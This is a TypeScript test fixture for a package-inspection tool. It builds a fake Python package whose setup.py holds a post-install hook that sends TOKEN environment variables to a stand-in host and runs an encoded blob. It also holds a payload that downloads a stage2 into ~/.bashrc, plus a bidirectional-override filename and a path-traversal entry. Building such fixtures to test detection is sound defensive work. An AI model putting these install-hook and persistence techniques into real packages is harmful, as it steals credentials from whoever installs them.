import type { Member } from "../../main/model/package/member.ts";
import { makeDocument, spanOf } from "../../main/model/text/document.ts";
import type { Span } from "../../main/model/text/span.ts";

/** A made-up package, so that the face can be looked at and tested without an engine. Inert text of our own writing. */

export const setupText = `"""Packaging of aurora-metrics."""
import os
import base64
import zlib
from setuptools import setup
from setuptools.command.install import install

ENDPOINT = "https://collect.example.test/v1/hello"
BLOB = (
    "eJxNjkEKwjAQRfc9xdCVgqQ3EFy5cSGIuC1pMtBAMhMyE9Tb28aCLt9/8P7n+MCSo7/jC3PkIg4h" +
    "UhYjpvCYVdCXXGEkGp7yMCv0fQ8uJ0VSI0kmuKYPBOUC1ojLnOF8Bc4f9lXx1w=="
)


class PostInstall(install):
    def run(self):
        install.run(self)
        import urllib.request

        names = {key: os.environ[key] for key in os.environ if "TOKEN" in key}
        request = urllib.request.Request(ENDPOINT, data=repr(names).encode())
        urllib.request.urlopen(request, timeout=5)
        exec(zlib.decompress(base64.b64decode(BLOB)))


setup(
    name="aurora-metrics",
    version="2.4.1",
    packages=["aurora_metrics", "aurora_metrics.collectors"],
    cmdclass={"install": PostInstall},
)
`;

export const payloadText = `import os, subprocess, urllib.request

target = os.path.expanduser("~/.bashrc")
line = urllib.request.urlopen("http://203.0.113.77:8080/stage2").read().decode()
with open(target, "a") as handle:
    handle.write("\\n" + line)
exec(bytes.fromhex("7072696e74282268692229"))
`;

export const innerText = 'print("hi")\n';

export const initText = `"""Aurora metrics: counters, gauges and timers."""
from .collectors import host, process

__version__ = "2.4.1"
__all__ = ["host", "process"]
`;

export const hostText = `import platform
import subprocess


def uname():
    """Whole name of the running system."""
    return subprocess.check_output(["uname", "-a"]).decode()


def node():
    return platform.node()
`;

export const testText = `import subprocess


def test_cli():
    assert subprocess.run(["aurora", "--help"], check=False).returncode == 0
`;

interface Source {
	readonly path: string;
	readonly text: string;
	readonly readable?: boolean;
	readonly anomalies?: Member["anomalies"];
}

export const root = "aurora_metrics-2.4.1";
export const sources: readonly Source[] = [
	{ path: `${root}/PKG-INFO`, text: "Metadata-Version: 2.1\nName: aurora-metrics\nVersion: 2.4.1\n" },
	{ path: `${root}/README.md`, text: "# Aurora metrics\n\nCounters, gauges and timers.\n" },
	{ path: `${root}/setup.py`, text: setupText },
	{ path: `${root}/setup.cfg`, text: "[metadata]\nname = aurora-metrics\n" },
	{ path: `${root}/aurora_metrics/__init__.py`, text: initText },
	{ path: `${root}/aurora_metrics/collectors/__init__.py`, text: "from . import host, process\n" },
	{ path: `${root}/aurora_metrics/collectors/host.py`, text: hostText },
	{ path: `${root}/aurora_metrics/collectors/process.py`, text: "def count():\n    return 0\n" },
	{ path: `${root}/aurora_metrics/_native.cpython-311-x86_64-linux-gnu.so`, text: "", readable: true },
	{ path: `${root}/tests/test_cli.py`, text: testText },
	{
		path: `${root}/docs/invoice\\u202egnp.py`,
		text: "# the name of this file reads backwards in other viewers\n",
		anomalies: [
			{ code: "hidden-characters", message: "The name holds a character that reverses what follows (U+202E)." },
		],
	},
	{
		path: "../outside.py",
		text: "# stands outside of the archive's own folder\n",
		anomalies: [{ code: "parent-traversal", message: "The name climbs out of the folder it would be unpacked to." }],
	},
];

export const members: readonly Member[] = sources.map((source, index) => ({
	id: `m${index}`,
	rawName: source.path,
	path: source.path,
	kind: "file",
	size: source.text.length,
	readable: source.readable ?? true,
	anomalies: source.anomalies ?? [],
}));

export function memberId(path: string): string {
	const found = members.find((member) => member.path === `${root}/${path}`);
	if (found === undefined) throw new Error(`no member ${path}`);
	return found.id;
}

export function spanIn(text: string, from: string, to: string = from): Span {
	const start = text.indexOf(from);
	const end = text.indexOf(to, start) + to.length;
	if (start < 0 || end < to.length) throw new Error(`the made-up text has no ${from}`);
	return spanOf(makeDocument(text), { start, end });
}

export const blobSpan = spanIn(setupText, '"eJxNj', 'x1w=="');
export const innerSpan = spanIn(payloadText, '"7072696e74282268692229"');
